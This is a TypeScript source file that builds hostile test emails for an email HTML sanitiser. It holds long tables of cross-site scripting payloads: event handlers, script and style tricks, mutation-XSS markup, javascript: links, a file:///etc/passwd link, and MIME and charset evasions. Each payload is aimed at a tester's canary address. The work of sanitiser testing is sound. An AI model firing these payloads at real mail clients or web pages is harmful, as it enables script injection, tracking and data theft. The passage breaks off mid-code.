/** Where a canary listens goes in; hostile mails come out, made from tables of what is known to have fooled sanitisers and browsers. */

export interface HostileMail {
  readonly kind: string;
  readonly name: string;
  readonly raw: Uint8Array;
  /** What a browser would be given if nobody cleaned it; null where the mail itself is the trick. */
  readonly html: string | null;
}

/** Words before each payload, which must still be there to read. */
export const GREETING = 'Dear desk';

/**
 * `RUN` stands for a script's call that is noticed, `CANARY` for an address whose visit is noticed, `HOST` for its host
 * and port. The first row of each kind works in the Chromium of today when nothing cleans it; many others work no more,
 * or only where two parsers differ.
 */
export function hostileMails(canary: URL): HostileMail[] {
  const filled = (text: string, id: number) =>
    text.replaceAll('CANARY', `${canary.origin}/${id}`).replaceAll('HOST', canary.host).replaceAll('RUN', `ran(${id})`);
  const named = (kind: string, index: number, text: string) =>
    `${kind} ${index + 1}: ${JSON.stringify(text.replace(/\s+/g, ' ').slice(0, 70))}`;
  let id = 0;
  const inHtml = Object.entries(PAYLOADS).flatMap(([kind, payloads]) =>
    payloads.map((payload, index) => {
      const html = `<p>${GREETING}</p>${filled(payload, ++id)}`;
      return { kind, name: named(kind, index, payload), raw: Buffer.from(HTML_HEADER + html), html };
    }),
  );
  const inMail = Object.entries(TRICKS).map(([trick, mail], index) => ({
    kind: 'mail',
    name: named('mail', index, trick),
    raw: mail((text) => filled(text, ++id)),
    html: null,
  }));
  return [...inHtml, ...inMail];
}

const HTML_HEADER = 'MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n';

/** Each handler on an element on which a browser calls it by itself, or once it is touched. */
const CARRIERS: readonly string[] = [
  '<img src=x: onerror=RUN>',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="RUN">',
  '<body onload=RUN><body onpageshow=RUN>',
  '<input autofocus onfocus=RUN>',
  '<details open ontoggle=RUN>x</details>',
  '<a onclick=RUN>x</a>',
  '<p onmouseover=RUN onmouseenter=RUN onpointerover=RUN>x</p>',
  '<p tabindex=0 onfocus=RUN onfocusin=RUN id=x>x</p>',
  '<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart=RUN onanimationend=RUN>x</p>',
  '<p style="transition:all 1ms" ontransitionend=RUN ontransitionrun=RUN>x</p>',
  '<audio src=x: onerror=RUN></audio>',
  '<video><source onerror=RUN src=x:></video>',
  '<svg onload=RUN></svg>',
  '<object data="data:text/html,x" onload=RUN></object>',
  '<iframe onload=RUN></iframe>',
  '<marquee onstart=RUN loop=1>x</marquee>',
  '<div onscroll=RUN oncontentvisibilityautostatechange=RUN style="content-visibility:auto">x</div>',
  '<button popovertarget=q>x</button><div popover id=q onbeforetoggle=RUN>x</div>',
];

const EVENTS: readonly string[] = [
  '<img src=x: onerror="RUN">',
  ...CARRIERS,
  // One handler, spelled in all ways
  `<img src=x: ONERROR='RUN'>`,
  '<IMG SRC=x: OnErRoR=RUN//>',
  '<img/src=x:/onerror=RUN>',
  '<img\nsrc=x:\nonerror\n=\nRUN>',
  '<img\fsrc=x:\fonerror=RUN>',
  '<img src=x: onerror=&#114;an(0)>',
  '<img src=x: onerror="&#x72;&#97;n&lpar;0&rpar;">',
  '<img src="x:"onerror="RUN">',
  `<img src='x:'onerror='RUN'title=x>`,
  '<img src="x:` `onerror=RUN" onerror="RUN">',
  '<img alt="`><img src=x: onerror=RUN>" src=x:>',
  '<img """><img src=x: onerror=RUN>">',
  '<img src=x: o\0nerror=RUN>',
  '<img src=x: onerror\0=RUN>',
  '<i\0mg src=x: onerror=RUN>',
  '<img src=x: / = onerror=RUN>',
  '<img src=x: =">" onerror=RUN>',
  '<img src=x: \u00A0onerror=RUN>',
  '<img src=x: on error=1 onerror=RUN>',
  `<img src=x: a='>' onerror=RUN b="'>">`,
  '<img src=x: xmlns:onerror=RUN onerror:x=RUN onerror=RUN>',
  '<x onclick=RUN>x</x><custom-element onclick=RUN>y</custom-element>',
];

const SCRIPTS: readonly string[] = [
  '<script>RUN</script>',
  '<SCRIPT>RUN</SCRIPT>',
  '<ScRiPt type=module>RUN</ScRiPt>',
  '<script/x>RUN</script>',
  '<script\n>RUN</script\n>',
  '<script\t/\t>RUN</script\tx>',
  '<script src="CANARY"></script>',
  '<script src=//HOST/x.js></script>',
  '<script src="data:text/javascript,RUN"></script>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<<script>RUN//<</script>',
  '<scri\0pt>RUN</scri\0pt>',
  '<script\0>RUN</script>',
  '\0<script>RUN</script>',
  '<script>RUN',
  '<script>RUN</script',
  '<script><!--<script>RUN</script>-->',
  '<script>/*</script><script>*/RUN</script>',
  '<script x=">">RUN</script>',
  '<script x="</script><script>RUN</script>">RUN</script>',
  '&lt;script&gt;RUN&lt;/script&gt;<script>RUN</script>',
  '<b><script>RUN</b></script>',
  '<script type="importmap">{"imports":{"x":"CANARY"}}</script><script type=module>import "x"</script>',
  '<script type=speculationrules>{"prefetch":[{"urls":["CANARY"]}],"prerender":[{"urls":["CANARY"]}]}</script>',
  '<script language=vbscript>alert 1</script>',
  '\uFF1Cscript\uFF1ERUN\uFF1C/script\uFF1E\u02BA\u02B9<script>RUN</script>',
];

const STYLE_SHEETS: readonly string[] = [
  '<style>@import "CANARY";</style>',
  '<style>@import url(CANARY);</style>',
  '<STYLE type=text/css>body{background:url(CANARY)}</STYLE>',
  '<style>p{list-style-image:url("CANARY")}p{display:list-item}</style>',
  '<style>p::before{content:url(CANARY)}</style>',
  '<style>@font-face{font-family:f;src:url(CANARY)}p{font-family:f}</style>',
  '<style>p{cursor:url(CANARY),auto;border-image:url(CANARY) 1;mask:url(CANARY)}</style>',
  '<style>input[value^="a"]{background:url(CANARY)}</style><input value=abc>',
  '<style><!--</style><img src=x: onerror=RUN>-->',
  '<style>*{background:image-set("CANARY" 1x)}</style>',
  '<p style="background:url(CANARY)">x</p>',
  `<p style='background-image:url("CANARY")'>x</p>`,
  '<p style="background:URL(//HOST/x)">x</p>',
  '<p style="background:u\\72l(CANARY)">x</p>',
  '<p style="background:\\75\\72\\6C(CANARY)">x</p>',
  '<p style="back/**/ground:u/**/rl(CANARY);background:/**/url(CANARY)">x</p>',
  '<p style="color:red;background&colon;url&lpar;CANARY&rpar;">x</p>',
  '<p style="color:red;;;background : url( CANARY )">x</p>',
  '<p style="color:red}</style><img src=x: onerror=RUN>">x</p>',
  `<p style='font-family:"x;background:url(CANARY)'>x</p>`,
  '<p style="--a:url(CANARY);background:var(--a)">x</p>',
  '<p style="background:image-set(url(CANARY) 1x);background-image:-webkit-image-set(url(CANARY) 1x)">x</p>',
  '<p style="background:cross-fade(url(CANARY),url(CANARY),50%)">x</p>',
  '<li style="list-style:url(CANARY)">x</li>',
  '<p style="content:url(CANARY)">x</p><p style="shape-outside:url(CANARY);float:left">x</p>',
  '<p style="filter:url(CANARY#f);clip-path:url(CANARY#c);mask-image:url(CANARY)">x</p>',
  '<p style="width:expression(RUN);-moz-binding:url(CANARY);behavior:url(CANARY)">x</p>',
  '<p style="position:fixed;inset:0;background:red;z-index:9999"><a href="CANARY">x</a></p>',
  '<p style="color:red\0;background:url(CANARY)">x</p>',
  '<p style="color:#f00;}p{background:url(CANARY)}">x</p>',
  '<p style="@import url(CANARY);color:red">x</p>',
  '<font color="red;background:url(CANARY)" face="url(CANARY)">x</font>',
];

const METAS: readonly string[] = [
  '<meta http-equiv=refresh content="0;url=CANARY">',
  '<META HTTP-EQUIV="Refresh" CONTENT="0; URL=javascript:RUN">',
  '<meta http-equiv="refresh" content="0;url=data:text/html,<script>RUN</script>">',
  '<meta http-equiv=ref&#114;esh content="0,CANARY">',
  `<meta content='0;"CANARY"' http-equiv=REFRESH>`,
  '<meta http-equiv="set-cookie" content="a=b"><meta http-equiv=Link content="<CANARY>; rel=prefetch">',
  '<meta http-equiv=content-security-policy-report-only content="default-src none; report-uri CANARY"><img src=x:>',
  '<meta charset=utf-7>+ADw-script+AD4-RUN+ADw-/script+AD4-',
  '<meta http-equiv=content-type content="text/html; charset=iso-2022-jp"><img alt="\x1B$B" title="><img src=x: onerror=RUN>">',
  '<meta name=referrer content=unsafe-url><img src="CANARY">',
  '</p></body></html><meta http-equiv=refresh content="0;url=CANARY">',
  '<base href="CANARY/"><img src=x.png><a href=y>y</a>',
  '<base target=_blank><base href=javascript:/><a href=//%0aRUN>x</a>',
];

const RESOURCES: readonly string[] = [
  '<link rel=stylesheet href="CANARY">',
  '<LINK REL="preload" AS="image" HREF="CANARY">',
  '<link rel=preload as=script href="CANARY">',
  '<link rel=modulepreload href="CANARY">',
  '<link rel=prefetch href="CANARY">',
  '<link rel=prerender href="CANARY">',
  '<link rel=preconnect href="CANARY">',
  '<link rel=dns-prefetch href="CANARY">',
  '<link rel=icon href="CANARY"><link rel=manifest href="CANARY">',
  '<link rel=import href="CANARY">',
  '<link rel=preload as=image imagesrcset="CANARY 1x">',
  '<link rel="stylesheet" href="data:text/css,body{background:url(CANARY)}">',
  '<style></style><link rel=stylesheet href=//HOST/x.css>',
  '<img src="CANARY">',
  '<img src=//HOST/x.gif>',
  '<img src="\\\\HOST\\x.gif">',
  '<img src=" \t\nhttp:HOST/x.gif">',
  '<img src=x.gif>',
  '<img src=/x.gif alt="x">',
  '<img srcset="CANARY 1x, CANARY 2x">',
  "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><image href='CANARY'/></svg>\">",
  '<img lowsrc="CANARY" dynsrc="CANARY" longdesc="CANARY" usemap="#m"><map name=m><area href="CANARY" shape=default ping="CANARY"></map>',
  '<image src="CANARY">',
  '<picture><source srcset="CANARY"><img alt=x></picture>',
  '<body background="CANARY">',
  '<table background="CANARY"><tr background="CANARY"><td background="CANARY">x</td></tr></table>',
  '<table><tr><td style="background:url(CANARY)">x</td></tr></table>',
  '<video poster="CANARY" src="CANARY" autoplay></video>',
  '<audio src="CANARY" autoplay preload=auto></audio>',
  '<video><source src="CANARY"><track default src="CANARY"></video>',
  '<bgsound src="CANARY"><xml src="CANARY"></xml><layer src="CANARY"></layer><ilayer src="CANARY"></ilayer>',
  '<input type=image src="CANARY">',
  '<html manifest="CANARY"><head profile="CANARY">',
  '<blockquote cite="CANARY"><q cite="CANARY">x</q><ins cite="CANARY">y</ins></blockquote>',
  '<script async src=CANARY></script><img src="x" srcset=",,CANARY,, 1x" sizes=",">',
];

const FRAMES: readonly string[] = [
  '<iframe src="javascript:parent.RUN"></iframe>',
  '<iframe src="CANARY"></iframe>',
  '<IFRAME SRC=//HOST/x></IFRAME>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x: onerror=parent.RUN&gt;"></iframe>',
  '<iframe src="data:text/html,<script>top.location=\'CANARY\'</script>"></iframe>',
  '<iframe><b>x</iframe><script>RUN</script></b>',
  '<iframe><!--</iframe><img src=x: onerror=RUN>-->',
  '<frameset onload=RUN><frame src="CANARY"></frameset>',
  '<object data="CANARY"></object>',
  '<object data="data:text/html,<script>parent.RUN</script>" type=text/html></object>',
  '<object><param name=movie value="CANARY"><embed src="CANARY"></object>',
  '<embed src="javascript:RUN"><embed src="CANARY" type=text/html>',
  '<applet code=x archive="CANARY" codebase="CANARY"></applet>',
  '<portal src="CANARY"></portal><fencedframe src="CANARY"></fencedframe>',
  '<iframe src=about:blank name="<script>RUN</script>"></iframe>',
];

const SVG: readonly string[] = [
  '<svg><script>RUN</script></svg>',
  '<svg/onload=RUN>',
  '<svg><script href="CANARY" /></svg>',
  '<svg><script xlink:href="data:text/javascript,RUN"></script></svg>',
  '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
  '<svg><a><animate attributeName=href values="javascript:RUN"/><text y=20>x</text></a></svg>',
  '<svg><set attributeName=onmouseover to=RUN><animate onbegin=RUN attributeName=x dur=1s></svg>',
  '<svg><image href="CANARY"/><image xlink:href="CANARY"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=RUN>#x"/></svg>',
  '<svg><use href="CANARY#x"/></svg>',
  '<svg><foreignObject><img src=x: onerror=RUN></foreignObject></svg>',
  '<svg><style>@import url(CANARY);</style></svg>',
  '<svg><style>&lt;/style&gt;&lt;img src=x: onerror=RUN&gt;</style></svg>',
  '<svg></p><style><a title="</style><img src=x: onerror=RUN>">',
  '<svg></br><style><a title="</style><img src=x: onerror=RUN>">',
  '<svg><p><style><g title="</style><img src=x: onerror=RUN>">',
  '<svg><desc><style><a title="</style><img src=x: onerror=RUN>"></desc></svg>',
  '<svg><title><style><img src="</style><img src=x: onerror=RUN>"></title></svg>',
  '<svg><textarea><img src=x: onerror=RUN></textarea></svg>',
  '<svg><xmp><img src=x: onerror=RUN></xmp></svg>',
  '<svg><noscript><img src=x: onerror=RUN></noscript></svg>',
  '<svg><![CDATA[><img src=x: onerror=RUN>]]></svg>',
  '<svg><![CDATA[</svg><img src=x: onerror=RUN>]]>',
  '<svg><iframe><a title="</iframe><img src=x: onerror=RUN>">',
  '<svg><template><img src=x: onerror=RUN></template></svg>',
  '<svg><font color=x><img src=x: onerror=RUN></font></svg>',
  '<svg><filter><feImage href="CANARY"/></filter><rect width=9 height=9 fill="url(CANARY#f)"/></svg>',
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xhtml"><x:script>RUN</x:script></svg>',
  '<svg:svg><svg:script>RUN</svg:script></svg:svg><html:script>RUN</html:script>',
];

const MUTATIONS: readonly string[] = [
  '<math><mtext></mtext></math><img src=x: onerror=RUN>',
  '<math><mi//xlink:href="javascript:RUN">x</math>',
  '<math href="javascript:RUN">x</math><math><maction actiontype="statusline" xlink:href="javascript:RUN">x</maction></math>',
  '<math><annotation-xml encoding="text/html"><img src=x: onerror=RUN></annotation-xml></math>',
  '<math><annotation-xml><style><img title="</style><img src=x: onerror=RUN>"></annotation-xml></math>',
  '<math></p><style><!--</style><img src=x: onerror=RUN>--></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=RUN&gt;">',
  '<math><mtext><table><mglyph><style><math><img src=x: onerror=RUN></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=RUN></style></mglyph></form>',
  '<form><div></form><form><img title="</form><img src=x: onerror=RUN>"></div></form>',
  '<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img src=x: onerror=RUN>">',
  '<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x: onerror=RUN>">',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x: onerror=RUN>"></style></h1>',
  '<a><a></a><math><mtext><a><mglyph><style><!--</style><img src=x: onerror=RUN>',
  '<table><tr><math><style><a title="</style><img src=x: onerror=RUN>"></table>',
  '<table><svg></table><style><a title="</style><img src=x: onerror=RUN>">',
  '<select><style></select><img src=x: onerror=RUN></style>',
  '<select><template><style><!--</style></template></select><img src=x: onerror=RUN>-->',
  '<select><keygen><svg><style></select><img src=x: onerror=RUN>',
  '<noscript><p title="</noscript><img src=x: onerror=RUN>"></noscript>',
  '<noscript><style></noscript><img src=x: onerror=RUN></style>',
  '<noscript><!--</noscript><img src=x: onerror=RUN>--></noscript>',
  '<p><noscript></p><img title="</noscript><img src=x: onerror=RUN>">',
  '<template><script>RUN</script></template><template shadowrootmode=open><script>RUN</script></template>',
  '<div><template shadowrootmode=open><img src=x: onerror=RUN><slot></slot></template>x</div>',
  '<textarea></textarea><img src=x: onerror=RUN>',
  '<textarea><img title="</textarea><img src=x: onerror=RUN>">',
  '<textarea></textarea/><img src=x: onerror=RUN>',
  '<textarea>&lt;/textarea&gt;&lt;img src=x: onerror=RUN&gt;</textarea>',
  '<title></title><img src=x: onerror=RUN>',
  '<title><a title="</title><img src=x: onerror=RUN>">',
  '<title>&lt;/title&gt;&lt;img src=x: onerror=RUN&gt;</title>',
  '<style><a title="</style><img src=x: onerror=RUN>">',
  '<style></style/x><img src=x: onerror=RUN>',
  '<style><style></style><img src=x: onerror=RUN></style>',
  '<xmp><a title="</xmp><img src=x: onerror=RUN>">',
  '<xmp></xmp\t><img src=x: onerror=RUN></xmp>',
  '<xmp>&lt;img src=x: onerror=RUN&gt;</xmp>',
  '<noembed><a title="</noembed><img src=x: onerror=RUN>">',
  '<noframes><a title="</noframes><img src=x: onerror=RUN>">',
  '<plaintext><img src=x: onerror=RUN>',
  '<listing>&lt;img src=x: onerror=RUN&gt;</listing>',
  '<option>&lt;img src=x: onerror=RUN&gt;</option>',
  '<p>&amp;lt;img src=x: onerror=RUN&amp;gt;<p>&lt;img src=x: onerror=RUN&gt;',
  '<pre>\n\n<img src=x: onerror=RUN></pre>',
  '<svg><p></svg><style><b title="</style><img src=x: onerror=RUN>">',
  `${'<div>'.repeat(490)}<svg><style><a title="</style><img src=x: onerror=RUN>">`,
  `${'<b>'.repeat(300)}<table><math><mtext><style><!--</style><img src=x: onerror=RUN>`,
];

const BROKEN: readonly string[] = [
  '<!-- > --><img src=x: onerror=RUN>',
  '<!--><img src=x: onerror=RUN>-->',
  '<!---><img src=x: onerror=RUN>-->',
  '<!-- --!><img src=x: onerror=RUN>-->',
  '<!-- <!-- --><img src=x: onerror=RUN>-->',
  '<!--[if gte IE 4]><script>RUN</script><![endif]--><![if true]><img src=x: onerror=RUN><![endif]>',
  '<!><img src=x: onerror=RUN>',
  '<!DOCTYPE x [<!ENTITY y "<img src=x: onerror=RUN>">]>&y;<img src=x: onerror=RUN>',
  '<?php ><img src=x: onerror=RUN>?>',
  '<? <img src=x: onerror=RUN>',
  '<%<!--%><script>RUN</script -->',
  '</ <img src=x: onerror=RUN>',
  '</><img src=x: onerror=RUN>',
  '</br style="background:url(CANARY)"></p onclick=RUN><img src=x: onerror=RUN>',
  '<a"\'`><img src=x: onerror=RUN>',
  '<a b="<img src=x: onerror=RUN>',
  `<b title='"><img src=x: onerror=RUN>'>x</b>`,
  '<b title=`><img src=x: onerror=RUN>`>x</b>',
  '<b title="a" title="><img src=x: onerror=RUN>">x</b>',
  '<b title=&quot;&gt;<img src=x: onerror=RUN>>x</b>',
  '<img src=x: alt="&quot;&gt;&lt;img src=x: onerror=RUN&gt;">',
  "<img src=x: alt='\"><img src=x: onerror=RUN>'>",
  '<img src=x: alt="\u2028&#0;&#13;&#10;onerror=RUN">',
  '<div <p onmouseover=RUN>x</div>',
  '<3 <img src=x: onerror=RUN <b>x',
  '<div __proto__=x constructor=y hasownproperty=z onclick=RUN toString=w>x</div>',
  '<__proto__ onclick=RUN>x</__proto__><constructor onclick=RUN>y</constructor>',
  '<form id=document><input name=body><input name=createElement><img name=currentScript src=x: onerror=RUN></form>',
  '</p></div></body></html><script>RUN</script>',
  '</style><script>RUN</script><style>',
  '\uFEFF\u200B<img\u200B src=x:><img src=x: onerror=RUN>',
  '<img src=x: onerror=RUN\uD800>',
];

const FORMS: readonly string[] = [
  '<form action="javascript:RUN"><button id=b>x</button></form><svg onload="b.click()">',
  '<form action="CANARY"><input name=q value=x><input type=submit></form>',
  '<form id=f action="CANARY"></form><button form=f>x</button><input type=submit form=f>',
  '<form><button formaction="javascript:RUN">x</button></form>',
  '<form><input type=submit formaction="CANARY" formmethod=post></form>',
  '<isindex type=submit action="javascript:RUN"><isindex prompt=x action="CANARY">',
  '<form action="CANARY" method=dialog><form action="CANARY"><input type=image src="CANARY"></form></form>',
  '<form action="mailto:x@y.example"><button>x</button></form>',
  '<label for=f><button type=submit formaction="CANARY" id=f>x</button></label>',
  '<button onclick=RUN>x</button><keygen autofocus onfocus=RUN><select autofocus onfocus=RUN><option>x</select>',
  '<dialog open onclose=RUN><form method=dialog><button>x</button></form></dialog>',
];

const HREFS: readonly string[] = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  ' javascript:RUN',
  '&#1;javascript:RUN',
  'java&#9;script:RUN',
  'java\nscript:RUN',
  'java&NewLine;script&colon;RUN',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;RUN',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3ARUN',
  '&#0000106avascript:RUN',
  'javascript&#x3A;RUN',
  'javascript://%0aRUN',
  'javascript:/*--></title></style></textarea></script><svg/onload=RUN>*/RUN',
  'java\0script:RUN',
  '\u00A0javascript:RUN',
  'javascript\uFF1ARUN',
  'x:javascript:RUN',
  'view-source:javascript:RUN',
  'vbscript:msgbox(1)',
  'livescript:RUN',
  'data:text/html,&lt;script&gt;RUN&lt;/script&gt;',
  'data:text/html;base64,PHNjcmlwdD5yYW4oMCk8L3NjcmlwdD4=',
  'data:,x',
  'DATA:image/svg+xml,&lt;svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22RUN%22/&gt;',
  'blob:CANARY',
  'filesystem:CANARY',
  'file:///etc/passwd',
  'about:blank',
  'CANARY',
  '//HOST/x',
  '\\\\HOST\\x',
  'https:HOST',
  '?x',
  'x.html',
  'mailto:x@y.example?body=&quot;&gt;&lt;img src=x: onerror=RUN&gt;',
  'http://[&quot;&gt;&lt;img src=x: onerror=RUN&gt;]/',
  'tel:&quot; onmouseover=&quot;RUN',
];

const LINKS: readonly string[] = [
  ...HREFS.map((href) => `<a href="${href}">x</a>`),
  '<a href=javascript:RUN target=_blank>x</a>',
  '<a xlink:href="javascript:RUN" href="javascript:RUN">x</a>',
  '<a href="CANARY" ping="CANARY" target=_top>x</a>',
  '<a href="CANARY" download>x</a>',
  '<a href="CANARY" attributionsrc="CANARY" target="_blank" rel=opener>x</a>',
  '<area href="javascript:RUN"><map><area href="CANARY" shape=default></map>',
  '<a title="x&quot; onmouseover=RUN x=&quot;" href="CANARY">x</a>',
  '<a href="https://x.example/&quot;onmouseover=&quot;RUN">x</a>',
  '<q cite="javascript:RUN">x</q><b href="javascript:RUN" action="CANARY" formaction="CANARY">x</b>',
];

const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
  script: SCRIPTS,
  event: EVENTS,
  style: STYLE_SHEETS,
  meta: METAS,
  resource: RESOURCES,
  frame: FRAMES,
  svg: SVG,
  mutation: MUTATIONS,
  broken: BROKEN,
  form: FORMS,
  link: LINKS,
};

// ---- tricks of the mail itself

type Fill = (text: string) => string;
const ATTACK = `<p>${GREETING}</p><img src=x: onerror=RUN><script>RUN</script><img src="CANARY">`;

const lines = (...all: readonly (string | Buffer)[]) =>
  Buffer.concat(all.flatMap((line) => [Buffer.from(line), Buffer.from('\r\n')]));
const multipart = (subtype: string, ...parts: readonly (readonly (string | Buffer)[])[]) =>
  lines(
    'MIME-Version: 1.0',
    `Content-Type: multipart/${subtype}; boundary="b"`,
    '',
    ...parts.flatMap((part) => ['--b', ...part]),
    '--b--',
  );
const htmlPart = (html: string | Buffer, type = 'text/html; charset=utf-8') => [`Content-Type: ${type}`, '', html];
const base64 = (content: string | Buffer) => Buffer.from(content).toString('base64').replace(/.{76}/g, '$&\r\n');
const quoted = (text: string) =>
  Buffer.from(text).toString('hex').toUpperCase().replace(/../g, '=$&').replace(/.{72}/g, '$&=\r\n');
const carried = (cid: string, type: string, content: string | Buffer, ...more: readonly string[]) => [
  `Content-Type: ${type}`,
  `Content-ID: <${cid}>`,
  'Content-Transfer-Encoding: base64',
  ...more,
  '',
  base64(content),
];
const inCharset = (charset: string, content: string | Buffer) =>
  multipart('mixed', htmlPart(`<p>${GREETING}</p>`), htmlPart(content, `text/html; charset=${charset}`));
const utf16 = (text: string) => Buffer.from(text, 'utf16le');
const showing = (cid: string) => `<p>${GREETING}</p><img src="cid:${cid}" alt="x">`;

const TRICKS: Readonly<Record<string, (fill: Fill) => Uint8Array>> = {
  'base64 hides the words': (fill) =>
    lines('Content-Type: text/html', 'Content-Transfer-Encoding: base64', '', base64(fill(ATTACK))),
  'base64 with dirt in it': (fill) =>
    lines(
      'Content-Type: text/html',
      'Content-Transfer-Encoding: base64',
      '',
      base64(fill(ATTACK)).replace(/(.{5})/g, '$1!*'),
    ),
  'quoted-printable hides the words': (fill) =>
    lines('Content-Type: text/html', 'Content-Transfer-Encoding: quoted-printable', '', quoted(fill(ATTACK))),
  'an encoding that nobody knows': (fill) =>
    lines('Content-Type: text/html', 'Content-Transfer-Encoding: x-none', '', fill(ATTACK)),
  'the type in capitals, with a comment': (fill) => lines('Content-Type: (x) TEXT/HTML (y)', '', fill(ATTACK)),
  'the type folded': (fill) => lines('Content-Type:', '\ttext/html;', '\tcharset', '\t=utf-8', '', fill(ATTACK)),
  'two types': (fill) =>
    multipart('mixed', htmlPart(fill(ATTACK)), ['Content-Type: text/plain', ...htmlPart(fill(ATTACK))]),
  'HTML in two parts, each harmless': (fill) =>
    multipart('mixed', htmlPart(`<p>${GREETING}</p><img title="`), htmlPart(fill('"><img src=x: onerror=RUN>'))),
  'a comment from part to part': (fill) =>
    multipart('mixed', htmlPart(`<p>${GREETING}</p><!--`), htmlPart(fill('--><script>RUN</script>'))),
  'a script over two parts': (fill) =>
    multipart('mixed', htmlPart(`<p>${GREETING}</p><scr`), htmlPart(fill('ipt>RUN</script>'))),
  'HTML as alternative, behind plain words': (fill) =>
    multipart('alternative', ['Content-Type: text/plain', '', GREETING], htmlPart(fill(ATTACK))),
  'markup in the plain words beside HTML': (fill) =>
    multipart('mixed', ['Content-Type: text/plain', '', fill('<script>RUN</script>')], htmlPart(`<p>${GREETING}</p>`)),
  'HTML in an attached message': (fill) =>
    multipart('mixed', htmlPart(`<p>${GREETING}</p>`), [
      'Content-Type: message/rfc822',
      '',
      'Content-Type: text/html',
      '',
      fill(ATTACK),
    ]),
  'HTML in a message that is shown inline': (fill) =>
    multipart('digest', htmlPart(`<p>${GREETING}</p>`), [
      'Content-Type: message/rfc822',
      'Content-Disposition: inline',
      '',
      'Content-Type: text/html',
      'Subject: <script>',
      '',
      fill(ATTACK),
    ]),
  'XHTML, and SVG as the body': (fill) =>
    multipart(
      'mixed',
      htmlPart(`<p>${GREETING}</p>`),
      ['Content-Type: application/xhtml+xml', '', fill(ATTACK)],
      ['Content-Type: image/svg+xml', 'Content-Disposition: inline', '', fill('<svg onload="RUN"/>')],
    ),
  'a boundary in the middle of a tag': (fill) =>
    lines(
      'Content-Type: multipart/mixed; boundary=">"',
      '',
      '-->',
      ...htmlPart(`<p>${GREETING}</p><img src=x:`),
      '-->',
      ...htmlPart(fill(' onerror=RUN>')),
      '-->--',
    ),
  'a boundary that never ends': (fill) =>
    lines('Content-Type: multipart/mixed; boundary=b', '', '--b', ...htmlPart(fill(ATTACK))),
  'headers that follow no rule': (fill) =>
    Buffer.from(`From x\nX\n<script>:1\nContent-Type: text/html\n\n${fill(ATTACK)}`),
  'markup in encoded words': (fill) =>
    lines(
      `Subject: =?utf-8?B?${Buffer.from(fill('<script>RUN</script>')).toString('base64')}?=`,
      `From: =?utf-7?Q?+ADw-script+AD4-?= <x@y.example>`,
      ...htmlPart(fill(ATTACK)),
    ),
  'markup in the name of a file': (fill) =>
    multipart('mixed', htmlPart(`<p>${GREETING}</p>`), [
      'Content-Type: application/pdf; name="<img src=x: onerror=ran(0)>"',
      fill('Content-Disposition: attachment; filename="<script>RUN</script>"'),
      '',
      'x',
    ]),
  'UTF-7': (fill) => inCharset('utf-7', fill('+ADw-script+AD4-RUN+ADw-/script+AD4-')),
  'UTF-16': (fill) => inCharset('utf-16', utf16(fill(ATTACK))),
  'UTF-16 under the name of UTF-8': (fill) => inCharset('utf-8', utf16(fill(ATTACK))),
  'UTF-32, which browsers do not know': (fill) =>
    inCharset(
      'utf-32',
      Buffer.from([...fill('<script>RUN</script>')].flatMap((sign) => [0, 0, 0, sign.charCodeAt(0)])),
    ),
  'ISO-2022-JP with escapes': (fill) =>
    inCharset('iso-2022-jp', fill('<a title="\x1B$B">"</a>\x1B(B"><img src=x: onerror=RUN>')),
  'ISO-2022-KR and HZ': (fill) => inCharset('hz-gb-2312', fill('<img alt="~{"><img src=x: onerror=RUN>~}">')),
  'Shift_JIS eats a quote': (fill) =>
    inCharset('shift_jis', Buffer.from(fill('<img alt="\x81" src=x: title=" onerror=RUN ">'), 'latin1')),
  'GBK eats a backslash': (fill) =>
    inCharset('gbk', Buffer.from(fill('<p style="color:\xBF\\72ed;background:url(CANARY)">x'), 'latin1')),
  'US-ASCII with high bits': (fill) =>
    inCharset('us-ascii', Buffer.from([...fill('<script>RUN</script>')].map((sign) => sign.charCodeAt(0) | 0x80))),
  'overlong UTF-8': (fill) =>
    inCharset('utf-8', Buffer.from(fill('\xC0\xBCscript\xC0\xBERUN\xC0\xBC/script\xC0\xBE'), 'latin1')),
  'EBCDIC, and a charset with markup in its name': (fill) => inCharset('"><script>ran(0)</script>', fill(ATTACK)),
  'an image of the mail that is SVG': (fill) =>
    multipart(
      'related',
      htmlPart(showing('a')),
      carried(
        'a',
        'image/svg+xml',
        fill('<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><image href="CANARY"/></svg>'),
      ),
    ),
  'an image of the mail that is HTML': (fill) =>
    multipart('related', htmlPart(showing('a')), carried('a', 'image/png', fill(ATTACK))),
  'an image of the mail that is GIF and script': (fill) =>
    multipart(
      'related',
      htmlPart(fill(`${showing('a')}<script src="cid:a"></script><iframe src="cid:a"></iframe>`)),
      carried('a', 'image/gif', fill('GIF89a=1;RUN//')),
    ),
  'an image whose type breaks out': (fill) =>
    multipart(
      'related',
      htmlPart(showing('a')),
      carried('a', 'image/png"onerror="ran(0)', Buffer.from(fill('\x89PNG\r\n\x1A\n"onerror="RUN'), 'latin1')),
    ),
  'an image whose name breaks out': (fill) =>
    multipart(
      'related',
